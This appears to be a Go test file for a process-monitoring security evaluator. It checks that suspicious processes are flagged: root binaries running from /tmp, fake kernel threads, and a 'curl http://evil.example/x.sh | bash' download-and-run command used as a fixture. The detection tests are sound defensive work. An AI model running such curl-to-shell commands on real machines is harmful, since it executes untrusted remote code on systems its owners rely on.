// Copyright Antimetal, Inc. All rights reserved.
//
// Use of this source code is governed by a source available license that can be found in the
// LICENSE file or at:
// https://polyformproject.org/wp-content/uploads/2020/06/PolyForm-Shield-1.0.0.txt

package security

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/arcspire/telemetryd/pkg/snapshot"
)

func TestEvaluateFlagsRootExecInWritableDir(t *testing.T) {
	var s snapshot.Snapshot
	s.Procs.Rows[0] = snapshot.Process{PID: 100, User: "root", ExePath: "/tmp/evil", Comm: "evil"}
	s.Procs.RowCount = 1

	findings := Evaluate(&s)
	require.Len(t, findings, 1)
	require.Equal(t, SeverityWarning, findings[0].Severity)
	require.Contains(t, findings[0].Reason, "root exec in /tmp")
}

func TestEvaluateFlagsCurlPipedToShell(t *testing.T) {
	var s snapshot.Snapshot
	s.Procs.Rows[0] = snapshot.Process{PID: 200, User: "alice", Cmdline: "curl http://evil.example/x.sh | bash"}
	s.Procs.RowCount = 1

	findings := Evaluate(&s)
	require.Len(t, findings, 1)
	require.Equal(t, SeverityCaution, findings[0].Severity)
	require.Equal(t, "script download", findings[0].Reason)
}

func TestEvaluateFlagsFakeKernelThread(t *testing.T) {
	var s snapshot.Snapshot
	s.Procs.Rows[0] = snapshot.Process{PID: 2, User: "root", Comm: "[kworker/fake]", Cmdline: "[kworker/fake]", ExePath: "/usr/bin/fake"}
	s.Procs.RowCount = 1

	findings := Evaluate(&s)
	require.Len(t, findings, 1)
	require.Equal(t, "fake kernel thread", findings[0].Reason)
}

func TestEvaluateOrdersBySeverityDescending(t *testing.T) {
	var s snapshot.Snapshot
	s.Procs.Rows[0] = snapshot.Process{PID: 1, User: "alice", Cmdline: "curl x | bash"}
	s.Procs.Rows[1] = snapshot.Process{PID: 2, User: "root", ExePath: "/tmp/evil", Comm: "evil"}
	s.Procs.RowCount = 2

	findings := Evaluate(&s)
	require.Len(t, findings, 2)
	require.Equal(t, SeverityWarning, findings[0].Severity)
	require.Equal(t, SeverityCaution, findings[1].Severity)
}

func TestEvaluateCapsAtMaxFindings(t *testing.T) {
	var s snapshot.Snapshot
	n := snapshot.ProcessRowCap
	if n > MaxFindings+10 {
		n = MaxFindings + 10
	}
	for i := 0; i < n; i++ {
		s.Procs.Rows[i] = snapshot.Process{PID: int32(i + 1), User: "root", ExePath: "/tmp/evil", Comm: "evil"}
	}
	s.Procs.RowCount = n

	findings := Evaluate(&s)
	require.LessOrEqual(t, len(findings), MaxFindings)
}
